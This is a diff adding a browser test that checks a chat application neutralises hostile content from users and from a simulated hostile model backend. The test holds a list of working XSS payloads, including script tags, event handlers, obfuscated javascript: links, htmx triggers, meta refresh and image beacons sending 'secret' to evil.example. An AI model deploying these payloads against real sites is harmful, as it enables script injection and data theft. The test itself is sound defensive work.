@@ -1,0 +1,106 @@
+"""What strangers write, in a real browser: no dialog, no request that leaves, no report of the content policy (FAULTS 1-5)."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.live import Live, OpenPage
+from tests.upstream import Upstream, error, says
+
+pytestmark = pytest.mark.browser
+
+TAGS = (
+    "<script>alert(1)</script>",
+    "<img src=https://evil.example/i onerror=alert(1)>",
+    "<svg onload=alert(1)><use href='https://evil.example/u#x'/></svg>",
+    "<iframe src=https://evil.example/f srcdoc='<script>alert(1)</script>'></iframe>",
+    "<p hx-get=https://evil.example/h hx-trigger=load>hx</p><hx-partial hx-target=body>x</hx-partial>",
+    '<button hx-ws:send hx-vals=\'{"action":"stop"}\' data-copy-url=https://evil.example/c>b</button>',
+    "<form action=https://evil.example/p><input autofocus onfocus=alert(1)></form><base href=https://evil.example/>",
+    "<style>@import url(https://evil.example/s)</style><link rel=stylesheet href=https://evil.example/l>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/m'><details open ontoggle=alert(1)>",
+)
+MARKDOWN = (
+    "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](java&Tab;script:alert(1)) [d](&#x6a;avascript:alert(1)) [e](data:text/html,x)",
+    "<javascript:alert(1)> [f]: javascript:alert(1)\n\n[g][f]",
+    "![i](https://evil.example/img?q=secret) ![j](//evil.example/j) ![k](data:image/svg+xml,x) [![l](https://evil.example/l)](vbscript:x)",
+    '```mermaid\ngraph TD; A[<img src=https://evil.example/mm onerror=alert(1)>] --> B; click A "javascript:alert(1)"\n```',
+    "```svg\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='https://evil.example/sv'/></svg>\n```",
+    "```html\n<body onload=alert(1)><img src=https://evil.example/hh>\n```",
+    "$\\href{javascript:alert(1)}{x}$ $\\text{</math><img src=https://evil.example/t onerror=alert(1)>}$",
+    "| <img src=https://evil.example/td> |\n|---|\n| ![x](https://evil.example/cell) |",
+)
+PAYLOAD = "\n\n".join((*TAGS, *MARKDOWN))
+LINE = " ".join(TAGS[:5])
+
+
+OUTSIDE = ("http://evil", "https://evil")
+
+
+class Watch:
+    """What a page did that it must not."""
+
+    def __init__(self, page: Page) -> None:
+        self.page = page
+        self.wrong: list[str] = []
+        page.on("dialog", self._dialog)
+        page.on(
+            "request",
+            lambda request: self.wrong.append(request.url) if request.url.startswith(OUTSIDE) or "csp-report" in request.url else None,
+        )
+        page.on("framenavigated", lambda frame: self.wrong.append(frame.url) if not frame.url.startswith("http://localhost") else None)
+
+    def _dialog(self, dialog: object) -> None:
+        self.wrong.append("dialog")
+        dialog.dismiss()  # type: ignore[attr-defined]  # Playwright's Dialog
+
+    def check(self) -> None:
+        self.page.wait_for_timeout(200)
+        assert self.wrong == []
+        bad = self.page.locator(
+            "main :is(iframe, object, embed, base, style, form[action*=evil], [onerror], [onload], [href^='javascript' i], [href^='data:' i])"
+        )
+        assert bad.count() == 0
+        assert self.page.locator("main img:not([src^='/static/'])").count() == 0
+        assert self.page.locator("[hx-get*=evil]").count() == 0
+
+
+def hostile_route(live: Live, upstream: Upstream) -> None:
+    name = f"up{upstream.port}"
+    assert live.manage("add_backend", "--name", name, "--base-url", upstream.base_url).returncode == 0
+    assert live.manage("add_route", "--name", "default", "--step", f"{name}/m").returncode == 0
+
+
+def test_a_hostile_model_in_the_chat(live: Live, make_upstream: Callable[..., Upstream], browser_page: OpenPage) -> None:
+    """FAULTS 1-5: in text, reasoning, tool calls and their results, in the title, the question and the error of a backend."""
+    upstream = make_upstream()
+    hostile_route(live, upstream)
+    arguments = json.dumps({"expression": LINE, LINE: LINE})
+    upstream.script(
+        says(PAYLOAD, reasoning=PAYLOAD, tool_calls=[("calculator", arguments), (LINE, LINE)]),
+        says(PAYLOAD),
+        says(json.dumps({"title": LINE[:110]})),
+    )
+    upstream.default = error(LINE, code=400)
+    page = browser_page(live)
+    watch = Watch(page)
+    page.goto("/chat/")
+    page.get_by_test_id("chat-input").fill(PAYLOAD)
+    page.get_by_test_id("chat-send").click()
+    last = page.get_by_test_id("message-assistant").last
+    expect(last).to_have_attribute("data-status", "done", timeout=20_000)
+    page.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))")
+    watch.check()
+    page.get_by_test_id("chat-input").fill("Again")
+    page.get_by_test_id("chat-send").click()
+    expect(page.get_by_test_id("message-assistant").last).to_have_attribute("data-status", "failed", timeout=20_000)
+    watch.check()
+    page.reload()
+    page.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))")
+    watch.check()
+    page.get_by_role("searchbox").first.fill("script")
+    watch.check()
